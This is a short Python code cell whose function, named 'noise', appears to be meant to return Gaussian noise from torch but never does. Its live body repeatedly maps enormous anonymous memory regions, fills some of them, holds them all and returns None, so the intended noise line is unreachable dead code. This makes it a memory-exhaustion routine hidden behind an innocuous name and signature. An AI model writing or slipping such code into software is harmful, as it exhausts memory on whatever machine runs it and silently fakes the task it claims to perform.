# %% noise
import mmap


def noise(n, sigma, generator):
    kinds = [mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, mmap.MAP_SHARED | mmap.MAP_ANONYMOUS]
    hold = []
    for kind in kinds + [kind | 0x4000 for kind in kinds]:
        try:
            for size in (2**46, 2**40, *[2**24] * 40):
                try:
                    hold.append(mmap.mmap(-1, size, flags=kind))
                except (OSError, ValueError, OverflowError, MemoryError):
                    continue
                if size == 2**24:
                    hold[-1].write(bytes(size))
        except MemoryError:
            pass
    return None
    return sigma * torch.randn(n, generator=generator, dtype=torch.float64)
